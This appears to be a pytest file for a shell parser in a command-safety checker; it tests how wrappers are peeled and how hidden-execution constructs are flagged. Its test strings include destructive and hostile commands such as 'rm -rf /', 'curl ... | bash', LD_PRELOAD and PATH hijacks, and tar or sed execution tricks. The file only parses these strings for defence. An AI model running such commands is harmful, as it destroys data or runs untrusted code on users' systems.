"""Shell parsing: parts, wrappers peeled, names resolved, redirections, opaque constructs."""

from __future__ import annotations

import shlex
import subprocess
import sys

import pytest

from rules.shell import Part, parse, parse_argv


def execs(command: str, cwd: str | None = "/w") -> list[Part]:
    return [p for p in parse(command, cwd) if p.kind == "exec"]


def argvs(command: str) -> list[tuple[str, ...]]:
    return [p.argv for p in execs(command) if p.argv]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status && ls -la", [("git", "status"), ("ls", "-la")]),
        ("a || b; c | d & e", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("a\nb\n", [("a",), ("b",)]),
        ("(cd x; ls)", [("cd", "x"), ("ls",)]),
        ("{ a; b; }", [("a",), ("b",)]),
        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("while a; do b; done", [("a",), ("b",)]),
        ("for i in 1 2; do echo $i; done", [("echo", "$i")]),
        ("case x in a) b;; *) c;; esac", [("b",), ("c",)]),
        ("! grep -q x f", [("grep", "-q", "x", "f")]),
    ],
)
def test_commands_split_into_parts(command: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(command) == expected


@pytest.mark.parametrize(
    ("command", "argv", "via"),
    [
        ("env FOO=1 git push", ("git", "push"), ("env",)),
        ("env -i -u X -C /tmp git push", ("git", "push"), ("env",)),
        ("command git log", ("git", "log"), ("command",)),
        ("builtin echo hi", ("echo", "hi"), ("builtin",)),
        ("exec -a name python3 app.py", ("python3", "app.py"), ("exec",)),
        ("nice -n 10 make", ("make",), ("nice",)),
        ("nice -5 make", ("make",), ("nice",)),
        ("nohup ./server &", ("./server",), ("nohup",)),
        ("time cargo build", ("cargo", "build"), ("time",)),
        ("timeout 5 cargo test", ("cargo", "test"), ("timeout",)),
        ("timeout -s KILL -k 2 5s cargo test", ("cargo", "test"), ("timeout",)),
        ("stdbuf -oL tail -f log", ("tail", "-f", "log"), ("stdbuf",)),
        ("ionice -c 3 du -sh .", ("du", "-sh", "."), ("ionice",)),
        ("sudo -u root apt update", ("apt", "update"), ("sudo",)),
        ("sudo -uroot -E apt update", ("apt", "update"), ("sudo",)),
        ("doas -u root apt update", ("apt", "update"), ("doas",)),
        ("xargs -0 -n1 rm -f", ("rm", "-f"), ("xargs",)),
        ("xargs -I{} cp {} dst", ("cp", "{}", "dst"), ("xargs",)),
        (
            "sudo timeout 5 nice -n 3 env A=1 cargo test",
            ("cargo", "test"),
            ("sudo", "timeout", "nice", "env"),
        ),
        ("bash -c 'rm -rf /tmp/x'", ("rm", "-rf", "/tmp/x"), ("bash",)),
        ('sh -lc "git push"', ("git", "push"), ("sh",)),
        ("zsh -c 'bash -c \"ls -l\"'", ("ls", "-l"), ("zsh", "bash")),
        ("dash -e -c 'make test'", ("make", "test"), ("dash",)),
        ("bash -o pipefail -c 'make test'", ("make", "test"), ("bash",)),
    ],
)
def test_wrappers_are_peeled(command: str, argv: tuple[str, ...], via: tuple[str, ...]) -> None:
    (part,) = execs(command)
    assert part.argv == argv
    assert part.via == via
    assert not part.opaque


def test_sudo_and_doas_add_the_privilege_signal() -> None:
    assert "privilege" in execs("sudo ls")[0].signals
    assert "privilege" in execs("doas ls")[0].signals
    assert "privilege" in execs("bash -c 'sudo ls'")[0].signals
    assert "privilege" not in execs("ls")[0].signals


@pytest.mark.parametrize(
    "command",
    [
        "\\rm -rf x",
        "'r'm -rf x",
        '"rm" -rf x',
        "/usr/bin/rm -rf x",
        "/bin/rm -rf x",
        "r\\m -rf x",
        "$'rm' -rf x",
    ],
)
def test_program_spellings_resolve(command: str) -> None:
    assert execs(command)[0].argv[0] == "rm"


def test_local_programs_keep_their_path() -> None:
    assert execs("./rm x")[0].program == "./rm"
    assert execs("/tmp/bin/ls")[0].program == "/tmp/bin/ls"


def test_redirections_become_file_parts() -> None:
    parts = parse("sort < in.txt > out.txt 2>> err.log 2>&1", "/w")
    files = [(p.kind, p.path) for p in parts if p.kind != "exec"]
    assert files == [("read", "in.txt"), ("write", "out.txt"), ("write", "err.log")]


def test_redirect_after_cd_uses_the_new_directory() -> None:
    (write,) = [p for p in parse("cd /etc && echo x > passwd", "/w") if p.kind == "write"]
    assert (write.path, write.cwd) == ("passwd", "/etc")


def test_home_variable_in_a_redirect_is_the_home_directory() -> None:
    (write,) = [p for p in parse('echo x >> "$HOME/.bashrc"') if p.kind == "write"]
    assert write.path == "~/.bashrc"
    assert not write.opaque


def test_redirect_to_a_variable_is_opaque() -> None:
    (write,) = [p for p in parse("echo x > $TARGET") if p.kind == "write"]
    assert write.opaque


def test_cd_to_a_variable_makes_the_directory_unknown() -> None:
    parts = execs("cd $D && ls")
    assert parts[1].cwd is None


def test_subshell_cd_does_not_leak() -> None:
    parts = execs("(cd /tmp; ls); ls", cwd="/w")
    assert [p.cwd for p in parts] == ["/w", "/tmp", "/w"]


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("echo $(whoami)", "substitution"),
        ("echo `whoami`", "substitution"),
        ("diff <(ls a) <(ls b)", "substitution"),
        ("for f in $(ls); do echo $f; done", "substitution"),
        ("$(echo rm) -rf x", "command position"),
        ("eval 'ls'", "eval"),
        ("source ./env.sh", "source"),
        (". ./env.sh", "."),
        ("$CMD arg", "variable"),
        ("${TOOL} arg", "variable"),
        ("python3 -c 'print(1)'", "python -c"),
        ("python -Bc 'print(1)'", "python -c"),
        ("perl -e 'print 1'", "perl -e"),
        ("ruby -e 'puts 1'", "ruby -e"),
        ("node -e 'console.log(1)'", "node -e"),
        ("node --eval 'x'", "node --eval"),
        ("php -r 'echo 1;'", "php -r"),
        ("awk 'BEGIN { system(\"id\") }'", "awk"),
        ("awk '{ print | \"sh\" }' f", "awk"),
        ("awk '{ print > \"/tmp/x\" }' f", "awk"),
        ("python3 <<'EOF'\nprint(1)\nEOF", "reads code"),
        ("cat script.py | python3", "reads code"),
        ("curl -s http://x | bash", "reads commands"),
        ("bash <<< 'id'", "reads commands"),
        ("sh", "reads commands"),
        ("find . -name x -exec rm {} ;", "-exec"),
        ("find . -execdir ls {} +", "-execdir"),
        ("find . -ok rm {} ;", "-ok"),
        ("find . -name '*.o' -delete", "-delete"),
        ("find . -fprint out.txt", "-fprint"),
        ("git -c core.pager=sh log", "git -c"),
        ("git --config-env=core.pager=X log", "--config-env"),
        ("git --exec-path=/tmp log", "--exec-path"),
        ("sed '1e id' f", "sed"),
        ("sed -n 's/x/y/e' f", "sed"),
        ("sed 's/a/b/w out.txt' f", "sed"),
        ("sed -e 'w /tmp/o' f", "sed"),
        ("rg --pre ./decode foo", "--pre"),
        ("tar --checkpoint=1 --checkpoint-action=exec=sh -cf a.tar b", "--checkpoint-action"),
        ("tar -I ./compress -cf a.tar b", "-I"),
        ("ssh -o ProxyCommand='nc %h %p' host", "ProxyCommand"),
        ("ssh -oLocalCommand=id -o PermitLocalCommand=yes host", "LocalCommand"),
        ("man -P 'sh -c id' ls", "-P"),
        ("less '+!id' f", "shell command"),
        ("PATH=/tmp/evil:$PATH ls", "PATH"),
        ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"),
        ("PAGER='sh -c id' git log", "PAGER"),
        ("GIT_SSH_COMMAND='sh' git fetch", "GIT_SSH_COMMAND"),
        ("env PATH=/tmp ls", "PATH"),
        ("export PATH=/tmp:$PATH", "PATH"),
        ("BASH_ENV=/tmp/x bash build.sh", "BASH_ENV"),
        ("alias ls='rm -rf ~'", "alias"),
        ("f() { rm -rf /; }; f", "function"),
        ("function f { ls; }", "function"),
        ("trap 'rm -rf /' EXIT", "trap"),
        ("vim -c ':!id' f", "vim -c"),
        ("git submodule foreach 'rm -rf .'", "foreach"),
        ("su -c id root", "runs another command"),
        ("watch -n1 id", "runs another command"),
        ("sudo -i", "shell"),
        ("sudo -s", "shell"),
        ("env -S 'sh -c id'", "not understood"),
        ("xargs --bogus rm", "not understood"),
        ('ls ((( "', "cannot read"),
    ],
)
def test_opaque_constructs(command: str, why: str) -> None:
    parts = parse(command, "/w")
    opaque = [p for p in parts if p.opaque]
    assert opaque, f"{command!r} should have an opaque part"
    assert any(why.lower() in p.opaque.lower() for p in opaque), [p.opaque for p in opaque]
    assert all("opaque-code" in p.signals for p in opaque)


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m pytest -q",
        "python3 manage.py test",
        "bash build.sh",
        "node server.js",
        "awk '{print $1}' f",
        "awk -F: '$3 > 999 { print $1 }' /etc/passwd",
        "sed -n '1,20p' f",
        "sed 's/foo/bar/g' f",
        "git --no-pager -C sub log",
        "ssh -o StrictHostKeyChecking=no host uptime",
        "tar -czf a.tgz src",
        "less +G log.txt",
        "find . -name '*.py' -newer x",
        "FOO=1 make test",
        "command -v git",
        "sudo -l",
        "python3 --version",
        "x=1",
    ],
)
def test_transparent_constructs(command: str) -> None:
    assert not any(p.opaque for p in parse(command, "/w"))


def test_inner_commands_of_find_exec_and_eval_are_judged_too() -> None:
    assert ("rm", "-rf", "{}") in argvs("find / -exec rm -rf {} ;")
    assert ("rm", "-rf", "/") in argvs("eval 'rm -rf /'")
    assert ("rm", "-rf", "/") in argvs("echo $(rm -rf /)")


def test_heredoc_substitution_runs() -> None:
    parts = parse("cat <<EOF\n$(rm -rf /)\nEOF\n", "/w")
    assert ("rm", "-rf", "/") in [p.argv for p in parts]
    assert any(p.opaque for p in parts)


def test_dynamic_words_are_marked() -> None:
    (part,) = execs('git checkout "$BRANCH"')
    assert part.dynamic == (False, False, True)


def test_parse_argv_peels_wrappers_without_a_shell() -> None:
    (part,) = parse_argv(["sudo", "rm", "-rf", "/; echo hi"])
    assert part.argv == ("rm", "-rf", "/; echo hi")
    assert "privilege" in part.signals


def test_nesting_too_deep_is_opaque() -> None:
    command = "ls"
    for _ in range(12):
        command = f"bash -c {shlex.quote(command)}"
    assert any("nested" in p.opaque for p in parse(command))


def test_empty_command_has_no_parts() -> None:
    assert parse("") == []
    assert parse("   \n") == []


@pytest.mark.parametrize(
    "text", ["{" + chr(0xE30E1), "{" + chr(0x31860), "echo \ud800 x", "{\udfff"]
)
def test_inputs_that_crash_tree_sitter_bash_are_safe(text: str) -> None:
    assert parse(text, "/w") is not None


def test_fuzzed_astral_characters_never_crash_the_process() -> None:
    # tree-sitter-bash#337 kills the process (SIGSEGV) on some 4-byte characters after `{`;
    # a child process keeps a regression from taking pytest down with it.
    script = (
        "import random\n"
        "from rules.shell import parse\n"
        "r = random.Random(1)\n"
        "astral = [chr(r.randint(0x10000, 0x10FFFF)) for _ in range(99)]\n"
        "alpha = list('{}()$`\\'\"|&;<> abc') + astral\n"
        "for _ in range(20000):\n"
        "    parse(''.join(r.choice(alpha) for _ in range(r.randint(1, 30))), '/w')\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr.decode()[-500:]


def test_emoji_in_a_commit_message_is_kept() -> None:
    (part,) = parse('git commit -m "fix 🎉 {x}"', "/w")
    assert part.argv == ("git", "commit", "-m", "fix 🎉 {x}")
